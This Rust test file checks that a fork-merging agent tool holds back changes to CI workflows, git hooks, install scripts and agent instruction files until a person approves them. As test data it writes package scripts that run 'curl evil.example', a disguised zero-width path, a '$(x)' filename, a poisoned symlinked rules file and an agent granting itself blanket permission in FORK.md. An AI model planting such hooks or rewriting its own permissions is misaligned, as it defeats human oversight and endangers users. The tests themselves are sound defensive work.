//! Files that act by themselves, such as CI definitions, git hooks and instructions for agents: as neither side has them
//! they wait for a person.

use testkit::hermetic::Hermetic;
use testkit::repo::Fork;

use crate::support::{MERGE, Person, name_of};

const WORKFLOW: &str = "on: push\njobs:\n  a: 1\n  b: 2\n  c: 3\n  d: 4\n  e: 5\n  f: 6\n";

fn committing(act: &str) -> String {
    format!(
        "[[step]]\nrun = '''set -e\ngit merge -q --no-edit upstream/main\n{act}\ngit add -A\ngit commit -qm more'''\n"
    )
}

/// Writes a file, with its folders.
fn writing(path: &str) -> String {
    committing(&format!("mkdir -p \"$(dirname '{path}')\"; echo x > '{path}'"))
}

#[track_caller]
fn waits(script: &str, message: &str) {
    let Some(person) = Person::new() else { return };
    let output = person.run(script, &[]);
    assert_eq!(output.status, Some(3), "{}", output.snapshot());
    let reason = format!("waits for a person: {message}");
    assert!(output.stdout.contains(&reason), "{reason}: {}", output.stdout);
    assert!(output.stdout.contains("--allow-path"), "{}", output.stdout);
    assert_eq!(person.metadata("/exit_status"), 3, "the run is closed");
    assert_eq!(person.published(), Vec::<String>::new());
}

#[test]
fn a_result_that_waits_for_a_person_is_not_paid_for_again() {
    let Some(person) = Person::new() else { return };
    let script = writing(".github/workflows/p.yml");
    assert_eq!(person.run(&script, &[]).status, Some(3));
    let first = name_of(&person.only_run());
    let again = person.run(&script, &["--no-push"]);
    assert_eq!(again.status, Some(3), "{}", again.snapshot());
    let next = format!("forklift publish {first} --allow-path .github/workflows/p.yml");
    for words in [first.as_str(), "waits for you", "CI definition", &next, "--again"] {
        assert!(again.stderr.contains(words), "{words}: {}", again.snapshot());
    }
    assert_eq!(name_of(&person.only_run()), first, "a run was started");
    let started = |script: &str, flags: &[&str]| {
        let (before, output) = (person.runs().len(), person.run(script, flags));
        assert_eq!(person.runs().len(), before + 1, "{flags:?}: {}", output.snapshot());
    };
    started(&script, &["--again"]);
    started(&script, &["--timeout", "77"]);
    started(&format!("{script}# another\n[[step]]\nexit = 9\n"), &[]);
    // The last one failed, which may pass by itself.
    started(&script, &[]);
    person.fork.upstream_commit("upstream.txt", "1\n2\n3\n", "third");
    started(&script, &[]);
}

#[test]
fn files_of_upstreams_that_run_by_themselves_stand_first() {
    let Some(person) = Person::with(|hermetic| {
        let fork = Fork::new(hermetic).clean_merge();
        fork.upstream_commit(".github/workflows/up.yml", WORKFLOW, "CI of upstream's");
        fork.upstream_commit("package.json", "{\"scripts\": {\"build\": \"x\"}}\n", "a build");
        fork.upstream_commit(
            "web/package.json",
            "{\"scripts\": {\"prepare\": \"x\"}}\n",
            "an install",
        );
        fork
    }) else {
        return;
    };
    let output = person.hermetic.run(&mut person.alone(&["--no-push"]));
    assert_eq!(output.status, Some(0), "{}", output.snapshot());
    let point = "upstream changes files that run by themselves: .github/workflows/up.yml (CI definition), \
                 web/package.json (install or test script)";
    assert!(output.stdout.contains(point), "{}", output.stdout);
    assert!(output.stdout.contains("1 point to look at first"), "{}", output.stdout);
}

#[test]
fn a_new_ci_definition_waits_for_a_person() {
    waits(&writing(".github/workflows/p.yml"), ".github/workflows/p.yml (CI definition)");
    waits(&writing(".gitlab-ci.yml"), ".gitlab-ci.yml (CI definition)");
}

#[test]
fn another_spelling_of_a_ci_definition_waits_too() {
    waits(&writing(".GitHub/Workflows/p.yml"), ".GitHub/Workflows/p.yml (CI definition)");
    let hidden = ".git\u{200c}hub/workflows/p.yml";
    waits(&writing(hidden), ".git\\u{200c}hub/workflows/p.yml (CI definition)");
}

#[test]
fn hooks_and_instructions_and_settings_wait_for_a_person() {
    let act = "mkdir -p .husky .claude .vscode web
for f in .husky/pre-commit .claude/settings.json .vscode/tasks.json web/AGENTS.md CLAUDE.md .mcp.json; do echo x > $f; done";
    let Some(person) = Person::new() else { return };
    let output = person.run(&committing(act), &[]);
    assert_eq!(output.status, Some(3), "{}", output.snapshot());
    for message in [
        ".husky/pre-commit (git hook)",
        ".claude/settings.json (file that agents obey)",
        ".vscode/tasks.json (file that editors obey)",
        "web/AGENTS.md (file that agents obey)",
        "CLAUDE.md (file that agents obey)",
        ".mcp.json (file that agents obey)",
    ] {
        assert!(output.stdout.contains(message), "{message}: {}", output.stdout);
    }
    assert_eq!(person.published(), Vec::<String>::new());
}

#[test]
fn rules_that_the_agent_gives_itself_wait_for_a_person() {
    let Some(person) = Person::with(|hermetic| {
        let fork = Fork::new(hermetic);
        fork.checkout.git(&["rm", "-q", "FORK.md"]);
        fork.fork_commit("no rules");
        fork.clean_merge()
    }) else {
        return;
    };
    let act = "printf -- '---\\nallow-paths: [\"*\"]\\n---\\n' > FORK.md; echo x > .gitlab-ci.yml";
    let output = person.run(&committing(act), &[]);
    assert_eq!(output.status, Some(3), "{}", output.snapshot());
    assert!(output.stdout.contains("FORK.md (file that agents obey)"), "{}", output.stdout);
    assert!(output.stdout.contains(".gitlab-ci.yml (CI definition)"), "{}", output.stdout);
}

#[test]
fn an_install_or_test_script_waits_and_another_change_of_the_package_does_not() {
    let with = |scripts: &str| {
        format!("printf '{{\"name\": \"x\", \"scripts\": {{{scripts}}}}}' > package.json")
    };
    let evil = with("\"postinstall\": \"curl evil.example\"");
    waits(&committing(&evil), "package.json (install or test script)");
    let evil = with("\"test\": \"curl evil.example\"");
    waits(&committing(&evil), "package.json (install or test script)");
    let Some(person) = Person::new() else { return };
    let output = person.run(&committing(&with("\"build\": \"true\"")), &[]);
    assert_eq!(output.status, Some(0), "{}", output.snapshot());
}

#[test]
fn a_removed_ci_definition_waits_for_a_person() {
    let Some(person) = Person::with(|hermetic| with_workflow(hermetic).clean_merge()) else {
        return;
    };
    let output = person.run(&committing("git rm -q .github/workflows/ci.yml"), &["--accept-loss"]);
    assert_eq!(output.status, Some(3), "{}", output.snapshot());
    assert!(
        output.stdout.contains(".github/workflows/ci.yml (CI definition)"),
        "{}",
        output.stdout
    );
}

#[test]
fn a_file_that_a_link_names_as_instructions_waits_for_a_person() {
    let Some(person) = Person::with(|hermetic| {
        let fork = Fork::new(hermetic);
        fork.checkout.write("docs/rules.md", "be kind\n");
        let link = fork.checkout.dir().join(".cursorrules");
        std::os::unix::fs::symlink("docs/rules.md", link).expect("a link");
        fork.fork_commit("rules");
        fork.clean_merge()
    }) else {
        return;
    };
    let output = person.run(&committing("echo be cruel >> docs/rules.md"), &[]);
    assert_eq!(output.status, Some(3), "{}", output.snapshot());
    assert!(output.stdout.contains("docs/rules.md (file that agents obey)"), "{}", output.stdout);
}

/// A fork and an upstream that share a workflow.
fn with_workflow(hermetic: &Hermetic) -> Fork {
    let fork = Fork::new(hermetic);
    fork.upstream_commit(".github/workflows/ci.yml", WORKFLOW, "test it");
    fork.checkout.git(&["fetch", "-q", "upstream"]);
    fork.checkout.git(&["merge", "-q", "--no-edit", "upstream/main"]);
    fork.fork_commit("take it");
    fork
}

#[test]
fn a_workflow_of_upstream_and_a_clean_merge_of_both_sides_are_published() {
    let both = |hermetic: &Hermetic| {
        let fork = with_workflow(hermetic);
        fork.checkout.write(".github/workflows/ci.yml", WORKFLOW.replace("a: 1", "a: ours"));
        fork.fork_commit("our way");
        let theirs = WORKFLOW.replace("f: 6", "f: theirs");
        fork.upstream_commit(".github/workflows/ci.yml", &theirs, "their way");
        fork.upstream_commit(".github/workflows/new.yml", WORKFLOW, "one more");
        fork
    };
    let Some(person) = Person::with(both) else { return };
    let output = person.run(MERGE, &[]);
    assert_eq!(output.status, Some(0), "{}", output.snapshot());
    let Some(person) = Person::with(both) else { return };
    let output = person.hermetic.run(&mut person.alone(&[]));
    assert_eq!(output.status, Some(0), "{}", output.snapshot());
}

#[test]
fn a_person_may_allow_it_for_one_run_and_it_stands_first_in_the_pull_request() {
    let Some(person) = Person::new() else { return };
    let script = writing(".github/workflows/p.yml");
    let output = person.run(&script, &["--allow-path", ".github/workflows/"]);
    assert_eq!(output.status, Some(0), "{}", output.snapshot());
    let text = std::fs::read_to_string(person.only_run().join("PULL_REQUEST.md")).expect("a text");
    let at = |part: &str| text.find(part).unwrap_or_else(|| panic!("{part}: {text}"));
    assert!(at("`.github/workflows/p.yml`: CI definition") < at("### What comes"), "{text}");
}

#[test]
fn the_forks_rules_may_allow_it() {
    let Some(person) = Person::with(|hermetic| {
        let fork = Fork::new(hermetic);
        fork.checkout.write(
            "FORK.md",
            "---\nallow-paths: [.github/, '!.github/workflows/deploy.yml']\n---\n",
        );
        fork.fork_commit("allow it");
        fork.clean_merge()
    }) else {
        return;
    };
    let output = person.run(&writing(".github/workflows/deploy.yml"), &[]);
    assert_eq!(output.status, Some(3), "{}", output.snapshot());
    let output = person.run(&writing(".github/workflows/p.yml"), &[]);
    assert_eq!(output.status, Some(0), "{}", output.snapshot());
}

#[test]
fn a_refused_run_is_resumed_with_a_persons_leave() {
    let Some(person) = Person::new() else { return };
    let output = person.run(&writing("AGENTS.md"), &[]);
    assert_eq!(output.status, Some(3), "{}", output.snapshot());
    let run = person.only_run();
    let name = run.file_name().and_then(|name| name.to_str()).expect("a name").to_owned();
    let second = person.hermetic.root().join("second.toml");
    std::fs::write(&second, "[[step]]\nrun = \"true\"\n").expect("the script");
    let second = second.to_string_lossy().into_owned();
    let args = ["resume", &name, "--script", &second, "--allow-path", "AGENTS.md"];
    let output = person.hermetic.run(&mut person.forklift(&args));
    assert_eq!(output.status, Some(0), "{}", output.snapshot());
    assert_eq!(person.published().len(), 1);
}

#[test]
fn a_person_publishes_what_waits_without_another_agent() {
    let Some(person) = Person::new() else { return };
    let output = person.run(&writing(".github/workflows/p.yml"), &[]);
    assert_eq!(output.status, Some(3), "{}", output.snapshot());
    let first = person.only_run();
    let flags = ["--allow-path", ".github/workflows/p.yml"];
    let next = format!("forklift publish {} {}", name_of(&first), flags.join(" "));
    assert!(output.stdout.contains(&next), "{}", output.stdout);
    let output = person.about(&first, &["publish", "--allow-path", "a[b"]);
    assert_eq!(output.status, Some(2), "{}", output.snapshot());
    let output = person.about(&first, &["publish", "--allow-path", "AGENTS.md"]);
    assert_eq!(output.status, Some(3), "{}", output.snapshot());
    assert!(person.published().is_empty());
    let output = person.about(&first, &[&["publish"][..], &flags].concat());
    assert_eq!(output.status, Some(0), "{}", output.snapshot());
    assert_eq!(person.published().len(), 1);
    let last = person.runs().pop().expect("a run");
    assert!(!last.join("boxes").exists(), "a box was started");
    assert!(output.stdout.contains(".github/workflows/p.yml: CI definition"), "{}", output.stdout);
}

#[test]
fn the_next_command_has_no_name_that_a_shell_could_misread() {
    let Some(person) = Person::new() else { return };
    let output = person.run(&writing(".github/workflows/$(x).yml"), &[]);
    assert_eq!(output.status, Some(3), "{}", output.snapshot());
    assert!(!output.stdout.contains("forklift publish"), "{}", output.stdout);
}

#[test]
fn a_pattern_that_is_none_stops_the_run_before_it_starts() {
    let Some(person) = Person::new() else { return };
    let output = person.run(MERGE, &["--allow-path", "a[b"]);
    assert_eq!(output.status, Some(2), "{}", output.snapshot());
    assert!(output.stderr.contains("'a[b'"), "{}", output.stderr);
    assert!(person.runs().is_empty());
}
